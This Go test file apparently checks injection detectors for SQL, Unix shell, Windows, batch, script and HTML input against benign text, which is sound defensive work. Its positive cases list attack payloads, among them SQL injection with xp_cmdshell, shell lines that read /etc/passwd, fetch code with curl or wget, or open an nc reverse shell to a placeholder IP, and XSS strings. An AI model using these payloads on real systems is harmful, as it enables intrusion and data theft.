package syntax

import (
	"strings"
	"testing"
)

// readings are what each function is to say yes to, and no to.
var readings = []struct {
	name  string
	does  func(string) bool
	holds []string
	not   []string
}{
	{"SQL", SQL, []string{
		"1 OR 1=1", "' OR '1'='1", "x' UNION ALL SELECT user, password FROM users -- ", "1 UNION/**/SELECT/**/1,2", "admin'-- ", "admin' #", "1; DROP TABLE users", "1'; EXEC xp_cmdshell('dir')--",
		"1) AND (SELECT COUNT(*) FROM t) > 0 -- x", "' AND 1=(SELECT 1 FROM t WHERE a LIKE 'b%", "1 AND SLEEP(5)", "name, (SELECT password FROM users LIMIT 1)", "1 GROUP BY CONCAT(0x71,(SELECT MID((IFNULL(CAST(a AS CHAR),0x20)),1,54) FROM t LIMIT 1))",
		"It was good' OR 'a'='a", "the text of it' UNION SELECT 1 -- and so on", "1 /*!50000UNION*/ SELECT 1", "x' HAVING 1=1 --", "1 PROCEDURE ANALYSE()", "'; WAITFOR DELAY '0:0:9'--", "SELECT * FROM users WHERE id = 5", "from(select 1)x",
		"1' and 1 in (select $$a$$) -- ", "\\' OR 1=1 -- ", "\" or \"\"=\"",
	}, []string{
		"", "O'Brien", "select a colour and take it home", "I have a query like SELECT name FROM users WHERE id = 7 and it is slow", "if (a > 1 && strcmp(b, \"-x\") == 0) { printf(\"Don't\"); }",
		"8/7 -- or eight of seven pages, said the editor", "He wrote 'not now', she read 'not ever'; and that was that", "the \"quick\"; and the slow", "rock 'n' roll or jazz", "n = ((n >> 1) & 0x55) | ((n << 1) & 0xaa);\nn = 7;",
		"The -C or --context option now needs an argument", "Drop it -- or don't", "update your table at the drop off; then insert the key", "var(--door)", "xa+t'2na#,7P", "asdf jkl;'$$[;-==<<<';[, oh no, it's the cat",
	}},
	{"Shell", Shell, []string{
		";id", "x; cat /etc/passwd", "a && ping -c 3 203.0.113.9", "x | sh", "$(curl http://203.0.113.9/a)", "the text `wget -q evil.example/x` of it", "a\ncat /etc/passwd\nb", "\";reboot;\"", "'; nc 203.0.113.9 4444 -e /bin/sh #", ";w'h'oami", ";/b?n/c?t /e?c/p?sswd", "; c\\at x/y",
		"the pie is good; cat passwd", "x; ${SHELL} -c id", "; cat<../secret", "& curl the.example.com", "; (sleep 9)", "don't; ls -la /",
	}, []string{
		"", "I like it; find me at home", "see the list (sort of); echo schweigt.", "the pie is good (reboot)", "she said: time and tide; and so on", "export it first; sleep X; if-up eth1 (he said)", "use `ls -l` or `git log` there", "* Use ${version} instead of ${source-version}.",
		"tar --verbose no longer tries to restore the times", "/* A time value\n   time that is accurate */", "man a > 1; man b > 2",
	}},
	{"Windows", Windows, []string{"& dir", "x | type c:\\boot.ini", "& ping 203.0.113.9", "&& net user", "| powershell -enc x", "& DEL /f x.txt", "& certutil -urlcache http://x.example/a"}, []string{
		"", "tabla de contenidos\n   del archivador", "the sort & find of it", "al mal tiempo, del mal; o menos",
	}},
	{"Batch", Batch, []string{"& if exist c:\\x (calc)", "if \"1\"==\"1\" ping x", "for /f %i in (x) do echo", "FOR %%a IN (*.bak) DO del %%a"}, []string{"", "if(argc > 1 && x) { exit(1); }", "if (0 == 1) quit", "for the love of (all)"}},
	{"Script", Script, []string{
		"alert(1)", "'-alert(1)-'", "\";alert(1)//", "system('id')", "';system($_GET['c']);//", "phpinfo()", "${alert(1)}", "x=1;\nfetch('//a.example')", "function(){require('child_process').exec('id')}()", "the text'; alert(1) // of it",
	}, []string{
		"", "call alert(1) to see it", "you'd write puts(\"Don't panic!\") and be done", "The function console.log(\"here\") is called twice", "printf(\"a\"); he said",
	}},
	{"HTML", HTML, []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onfocus=\"fetch('//a.example')", "<svg/onload=x()>", "<a href=\"jav&#x09;ascript:alert(1)\">", "<iframe src=//a.example>", "<b style=\"x:expression(1)\">", "<link rel=stylesheet href=//a>", "<!--[if IE]>", "＜script＞", "<form action=//a>", "javascript:alert(1)",
	}, []string{
		"", "<met> hi; <tekmar> hello", "I <3 you", "<b>bold</b>", "a < b and c > d", "<!-- toc -->", "online = yes", "add an <image/> to it",
	}},
	{"Runs", Runs, []string{"<script src=x>", "<x onclick=y()>", "javascript:alert(1)"}, []string{"<img src=x>", "<p align=center>", "<link rel=x href=y>", "javascript: the good parts"}},
}

func TestWhatHoldsTogetherIsToldFromWhatDoesNot(t *testing.T) {
	for _, r := range readings {
		for _, s := range r.holds {
			if !r.does(s) {
				t.Errorf("%s: %q does something", r.name, s)
			}
		}
		for _, s := range r.not {
			if r.does(s) {
				t.Errorf("%s: %q does nothing", r.name, s)
			}
		}
	}
}

// Whatever stands in a value, reading it ends, in the same way for the same value.
func FuzzReadings(f *testing.F) {
	for _, r := range readings {
		for _, s := range append(r.holds, r.not...) {
			f.Add(s)
		}
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, r := range readings {
			if r.does(s) != r.does(s) {
				t.Errorf("%s: %q", r.name, s)
			}
		}
	})
}

func BenchmarkReadings(b *testing.B) {
	texts := map[string]string{
		"text":   strings.Repeat("It's the early bird; the key is under the mat (as ever), said \"Tom\" -- and left. ", 12),
		"quotes": strings.Repeat("a'b\"c`d ", 16<<7),
		"chain":  "1" + strings.Repeat(" or a'b'=c", 1600),
		"lines":  strings.Repeat("cat x y z\n", 1600),
		"tags":   strings.Repeat("<a b=c ", 2300),
	}
	for _, r := range readings {
		for name, s := range texts {
			b.Run(r.name+"/"+name, func(b *testing.B) {
				b.SetBytes(int64(len(s)))
				for b.Loop() {
					r.does(s)
				}
			})
		}
	}
}
